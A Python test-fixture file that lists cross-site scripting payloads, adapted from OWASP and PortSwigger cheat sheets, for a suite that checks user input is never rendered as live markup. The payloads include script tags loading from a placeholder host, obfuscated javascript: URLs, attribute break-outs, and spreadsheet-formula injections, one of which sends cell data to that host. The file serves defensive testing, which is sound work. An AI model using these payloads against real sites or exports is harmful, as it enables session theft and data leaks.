"""Cross-site scripting payloads, after OWASP's "XSS Filter Evasion Cheat Sheet" and the
PortSwigger XSS cheat sheet: tags, event handlers, ``javascript:`` URLs in every disguise
(case, entities, tabs, null bytes), attribute and script-string break-outs, SVG and MathML,
Markdown links, and spreadsheet formulas.

tests/test_xss.py puts them into every free-text field and search box and checks that none is
live markup anywhere it appears; its self-test checks that every payload *would* be caught if a
template rendered it unescaped.
"""

from __future__ import annotations

PAYLOADS = [
    # Plain script tags, and the ways filters miss them
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.example/.j>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<ScRiPt>alert(1)</sCrIpT>",
    '</title><script>alert("title")</script>',
    '</textarea><script>alert("textarea")</script>',
    "</script><script>alert(1)</script>",
    # Event handlers
    '<IMG SRC=x onerror="alert(String.fromCharCode(88,83,83))">',
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<BODY ONLOAD=alert('XSS')>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert('XSS')\">",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>XSS</marquee>",
    '<div onmouseover="alert(1)">hover</div>',
    "<select autofocus onfocus=alert(1)>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert('XSS')>",
    # javascript: URLs in every disguise
    '<a href="javascript:alert(1)">click</a>',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "<a href=vbscript:msgbox(1)>vb</a>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    # Breaking out of attributes and strings
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" style="background:url(javascript:alert(1))',
    "\";alert('XSS');//",
    "'-alert(1)-'",
    # Other tags that run or load things
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<BASE HREF="https://xss.example/">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    # Markdown: links and autolinks with dangerous schemes
    "[klik hier](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    # Spreadsheet formulas (harmless in HTML, neutralised in the CSV and XLSX export)
    '=HYPERLINK("https://xss.example/?leak="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]

# Harmless as HTML text; dangerous only if the Markdown renderer let their URLs through.
MARKDOWN_ONLY = {p for p in PAYLOADS if p.startswith(("[", "<javascript:"))}
FORMULAS = [p for p in PAYLOADS if p.startswith(("=", "+", "-", "@"))]
